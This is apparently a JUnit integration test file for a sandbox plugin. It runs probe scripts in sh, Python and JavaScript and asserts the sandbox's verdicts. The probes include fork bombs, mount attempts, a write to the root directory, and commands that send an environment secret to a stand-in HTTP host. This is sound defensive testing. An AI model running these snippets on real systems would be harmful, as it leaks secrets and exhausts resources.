package dev.sandboxplugin.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.sandboxplugin.SandboxResult;
import dev.sandboxplugin.payload.PayloadKind;
import dev.sandboxplugin.policy.SandboxPolicy;
import dev.sandboxplugin.report.RunReport;
import dev.sandboxplugin.verdict.Verdict;
import dev.sandboxplugin.verdict.Violation;
import dev.sandboxplugin.verdict.ViolationKind;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.api.io.TempDir;

/**
 * The same six scripts in sh, Python and JavaScript on the polyglot base: pass, fail, write to {@code /},
 * exfiltrate a variable over HTTP, fork-bomb, mount. Each verdict is asserted exactly.
 */
class ScriptPayloadTest {

  // A documentation address (TEST-NET-2): with network none no packet could leave, and none would reach anyone.
  private static final String EXFIL_URL = "http://198.51.100.7/collect";
  private static final String SECRET = "hunter2-do-not-leak";

  @TempDir Path workDir;

  /** One language: its file name and the six scripts. */
  enum Language {
    SH("probe.sh",
        """
        echo "hello from sh: $*"
        """,
        """
        echo "about to fail"
        exit 3
        """,
        """
        echo owned > /planted
        """,
        """
        echo "token=${SECRET_TOKEN:-}"
        wget -O- "%s?t=${SECRET_TOKEN:-}"
        """.formatted(EXFIL_URL),
        """
        bomb() { bomb | bomb & }
        # The script itself keeps forking too, so it ends at the limit rather than racing its children.
        while :; do bomb; done
        """,
        """
        mount -t tmpfs none /mnt
        """),
    PYTHON("probe.py",
        """
        import sys
        print("hello from python:", " ".join(sys.argv[1:]))
        """,
        """
        import sys
        print("about to fail")
        sys.exit(3)
        """,
        """
        with open("/planted", "w") as f:
            f.write("owned")
        """,
        """
        import os, urllib.request
        token = os.environ.get("SECRET_TOKEN", "")
        print("token=" + token)
        urllib.request.urlopen("%s?t=" + token, timeout=5)
        """.formatted(EXFIL_URL),
        """
        import os
        while True:
            os.fork()
        """,
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.mount(b"none", b"/mnt", b"tmpfs", 0, None) != 0:
            err = ctypes.get_errno()
            raise OSError(err, "mount failed: " + os.strerror(err))
        """),
    NODE("probe.js",
        """
        console.log("hello from node: " + process.argv.slice(2).join(" "));
        """,
        """
        console.log("about to fail");
        process.exit(3);
        """,
        """
        require("fs").writeFileSync("/planted", "owned");
        """,
        """
        const token = process.env.SECRET_TOKEN || "";
        console.log("token=" + token);
        require("http").get("%s?t=" + token, res => console.log("sent", res.statusCode));
        """.formatted(EXFIL_URL),
        """
        const { spawn } = require("child_process");
        function bomb() {
          spawn("sleep", ["600"]).on("error", e => { console.error(String(e)); process.exit(1); });
          setImmediate(bomb);
        }
        bomb();
        """,
        """
        require("child_process").execFileSync("mount", ["-t", "tmpfs", "none", "/mnt"]);
        """);

    final String fileName;
    final String passes;
    final String fails;
    final String writesRoot;
    final String exfiltrates;
    final String forkBombs;
    final String mounts;

    Language(String fileName, String passes, String fails, String writesRoot, String exfiltrates, String forkBombs,
        String mounts) {
      this.fileName = fileName;
      this.passes = passes;
      this.fails = fails;
      this.writesRoot = writesRoot;
      this.exfiltrates = exfiltrates;
      this.forkBombs = forkBombs;
      this.mounts = mounts;
    }
  }

  @ParameterizedTest
  @EnumSource(Language.class)
  void aPassingScriptPassesWithItsArguments(Language language) throws Exception {
    SandboxRuns runs = new SandboxRuns(workDir);
    SandboxResult result = runs.runScript(language.fileName, language.passes, SandboxPolicy.builder().build(), Map.of(),
        "a", "b c");

    RunReport report = result.report();
    assertEquals(Verdict.PASSED, report.verdict(), report.reason());
    assertEquals(0L, report.exitCode());
    assertEquals(PayloadKind.SCRIPT, report.payload().kind());
    assertEquals("offline-polyglot", report.imageBuild().base());
    String greeting = "hello from " + language.name().toLowerCase(java.util.Locale.ROOT) + ": a b c";
    assertTrue(runs.output.contains(greeting), runs.output.toString());
  }

  @ParameterizedTest
  @EnumSource(Language.class)
  void aFailingScriptCarriesItsExitCode(Language language) throws Exception {
    SandboxRuns runs = new SandboxRuns(workDir);
    SandboxResult result = runs.runScript(language.fileName, language.fails, SandboxPolicy.builder().build(), Map.of());

    RunReport report = result.report();
    assertEquals(Verdict.FAILED, report.verdict(), report.reason());
    assertEquals(3L, report.exitCode());
    assertEquals("exited 3", report.reason());
    assertEquals(List.of(), report.violations());
  }

  @ParameterizedTest
  @EnumSource(Language.class)
  void writingToTheRootIsAFileWriteViolation(Language language) throws Exception {
    SandboxRuns runs = new SandboxRuns(workDir);
    SandboxResult result = runs.runScript(language.fileName, language.writesRoot, SandboxPolicy.builder().build(),
        Map.of());

    RunReport report = result.report();
    assertEquals(Verdict.VIOLATION, report.verdict(), report.reason());
    assertEquals(List.of(ViolationKind.FILE_WRITE), kinds(report));
    assertTrue(report.violations().get(0).detail().contains("/planted"), report.violations().toString());
  }

  @ParameterizedTest
  @EnumSource(Language.class)
  void exfiltratingAVariableFindsNeitherTheVariableNorANetwork(Language language) throws Exception {
    SandboxRuns runs = new SandboxRuns(workDir);
    SandboxResult result = runs.runScript(language.fileName, language.exfiltrates, SandboxPolicy.builder().build(),
        Map.of("SECRET_TOKEN", SECRET));

    RunReport report = result.report();
    assertEquals(Verdict.VIOLATION, report.verdict(), report.reason());
    assertEquals(ViolationKind.NETWORK, report.violations().get(0).kind());
    assertTrue(kinds(report).stream().allMatch(ViolationKind.NETWORK::equals), report.violations().toString());
    assertTrue(runs.output.contains("token="), "the host's variable must not reach the payload: " + runs.output);
    assertFalse(String.join("\n", runs.output).contains(SECRET), runs.output.toString());
    assertFalse(Files.readString(result.reportFile()).contains(SECRET), "the report must not carry the secret");
  }

  @ParameterizedTest
  @EnumSource(Language.class)
  void aForkBombIsPidsExhausted(Language language) throws Exception {
    SandboxRuns runs = new SandboxRuns(workDir);
    SandboxPolicy policy = SandboxPolicy.builder().pids(64).timeout(Duration.ofSeconds(6)).build();
    SandboxResult result = runs.runScript(language.fileName, language.forkBombs, policy, Map.of());

    RunReport report = result.report();
    assertEquals(Verdict.PIDS_EXHAUSTED, report.verdict(), report.reason());
    assertEquals(ViolationKind.PIDS, report.violations().get(0).kind());
    assertTrue(report.violations().get(0).detail().startsWith("no new process or thread at the limit of 64: "),
        report.violations().toString());
  }

  @ParameterizedTest
  @EnumSource(Language.class)
  void mountingIsAMountViolation(Language language) throws Exception {
    SandboxRuns runs = new SandboxRuns(workDir);
    SandboxResult result = runs.runScript(language.fileName, language.mounts, SandboxPolicy.builder().build(), Map.of());

    RunReport report = result.report();
    assertEquals(Verdict.VIOLATION, report.verdict(), report.reason());
    assertEquals(ViolationKind.MOUNT, report.violations().get(0).kind(), report.violations().toString());
    assertTrue(report.exitCode() != 0, "the mount must have failed: exit " + report.exitCode());
  }

  private static List<ViolationKind> kinds(RunReport report) {
    return report.violations().stream().map(Violation::kind).toList();
  }
}
